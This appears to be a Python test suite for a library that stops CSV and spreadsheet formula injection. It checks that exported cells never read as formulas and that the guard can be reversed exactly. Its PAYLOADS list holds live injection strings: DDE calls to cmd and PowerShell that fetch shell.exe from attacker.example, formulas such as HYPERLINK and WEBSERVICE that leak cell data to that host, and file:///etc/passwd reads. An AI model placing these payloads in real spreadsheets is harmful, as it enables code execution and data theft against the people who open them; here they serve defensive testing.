import csv
import io
import unicodedata
from collections.abc import Iterator
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lib.spreadsheet import guard, lines, unguard

PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "--1",
    "+-+1",
    "=10+20+cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example?leak="&A1,"Click for details")',
    '=HYPERLINK(CONCATENATE("http://attacker.example/",A1),"Error")',
    '=IMPORTXML(CONCAT("http://attacker.example/", CONCATENATE(A2:E2)), "//a/a10")',
    '=IMPORTFEED(CONCAT("http://attacker.example/", CONCATENATE(A2:E2)))',
    '=IMPORTHTML(CONCAT("http://attacker.example/", CONCATENATE(A2:E2)),"table",1)',
    '=IMPORTRANGE("https://docs.example/spreadsheets/d/x", "Sheet1!A2:E2")',
    '=IMAGE("https://attacker.example/x.png?"&A2)',
    '=WEBSERVICE("http://attacker.example/"&A1)',
    "='file:///etc/passwd'#$passwd.A1",
    "=WEBSERVICE(CONCATENATE(\"http://attacker.example/\",('file:///etc/passwd'#$passwd.A1)))",
    "=INDIRECT(\"'file:///etc/passwd'#$passwd.A1\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
    "=    cmd|'/c calc.exe'!A",
    "= C    m D   |  '/c calc.exe'  !  A",
    "=SUM(A1:A9)",
    "=A1",
    "=",
    "+",
    "-",
    "@",
    "＝1+1",
    "＝cmd|'/C calc'!A0",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    "⁼1+1",
    "−1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\t",
    "\tplain",
    "\rplain",
    "\nplain",
    "\x0b=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1f=1+1",
    '"=1+1"',
    '"=1+1',
    '"",=1+1',
    '""=1+1',
    "“=1+1”",
    "drill,=1+1",
    "drill;=1+1",
    "drill\t=1+1",
    "drill|=1+1",
    "drill\n=1+1",
    "drill\r\n=cmd|'/C calc'!A0",
    'drill";=1+1',
    'drill","=1+1',
    'drill";"=1+1',
    "drill; =1+1",
    'drill"\r\n"=1+1"',
    "drill;＝1+1",
    ";=1+1",
    ",@SUM(1)",
]
# What looks as if it was guarded already, and a separator that only some programs know.
TRICKS = [
    "'=1+1",
    "''=1+1",
    "'\"=1+1",
    "' =1+1",
    "drill;'=1+1",
    "drill\u2028=1+1",
]
HARMLESS = [
    "",
    "Bohrer Ø 5 mm",
    "12.5",
    "A-1",
    "hammer-drill, 18 V",
    "'80s poster",
    "it's = five",
    "5 - 3",
    "rock 'n' roll",
    "Tools > Drill bits",
    "name@example.com",
    "“quoted”",
]
# Letters that matter, much more often than chance would bring them together.
texts = st.text() | st.text(alphabet="=+-@＝'\"\t\r\n,;| aÄ\u200b\ufeff\u2028−")


def readings(written: bytes) -> Iterator[list[str]]:
    """Yield the cells that each reader would find in a file, beginning with the right ones."""
    text = written.decode("utf-8-sig")
    for delimiter in ",;\t|":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting)
            yield [cell for row in rows for cell in row]


def looks_like_a_formula(cell: str) -> bool:
    """Say so without a look at how `guard` does it: by what Unicode knows of the characters."""
    for character in cell:
        plain = unicodedata.normalize("NFKC", character)
        if plain in ("=", "+", "-", "@", "−"):
            return True
        invisible = unicodedata.category(character) in ("Cc", "Cf", "Zs")
        if character not in '"“”' and not plain.isspace() and not invisible:
            return False
    return False


def dangers(written: bytes) -> list[str]:
    right, *wrong = readings(written)
    return [cell for cell in right if cell[:1] in ("\t", "\r", "\n")] + [
        cell for reading in (right, *wrong) for cell in reading if looks_like_a_formula(cell)
    ]


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_reader_makes_a_formula_of_a_known_payload(payload: str) -> None:
    doubled = payload.replace('"', '""')
    assert dangers(f'"before","{doubled}","after"\r\n'.encode()), "this payload is harmless"
    written = b"".join(lines(["a", "b", "c"], [["before", payload, "after"]]))
    assert dangers(written) == []


@given(texts)
def test_no_reader_makes_a_formula_of_any_text(text: str) -> None:
    try:
        written = b"".join(lines(["a", "b"], [[text, "after"]]))
    except UnicodeEncodeError:
        return  # half a surrogate pair cannot be stored, so it cannot be exported
    assert dangers(written) == []


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert guard(text) == unguard(text) == text


@given(texts)
def test_the_guard_comes_off_again_exactly(text: str) -> None:
    assert unguard(guard(text)) == text
    assert unguard(unguard(guard(guard(text)))) == text


@pytest.mark.parametrize("text", PAYLOADS + TRICKS)
def test_a_payload_comes_back_as_it_was(text: str) -> None:
    assert guard(text) != text
    assert unguard(guard(text)) == text


def test_a_number_stays_a_number() -> None:
    written = b"".join(lines(["score", "price", "none"], [[-5, Decimal("-12.90"), None]]))
    assert written.decode("utf-8-sig").splitlines()[1] == '-5,-12.90,""'


def test_a_text_that_looks_like_a_number_is_text() -> None:
    written = b"".join(lines(["a", "b"], [["-5", True]]))
    assert written.decode("utf-8-sig").splitlines()[1] == '"\'-5","yes"'


def test_a_file_is_written_line_by_line() -> None:
    def rows() -> Iterator[list[str]]:
        yield ["first"]
        raise AssertionError("the second row was asked for too early")

    written = lines(["name"], rows())
    assert next(written).decode("utf-8-sig") == '"name"\r\n'
    assert next(written) == b'"first"\r\n'
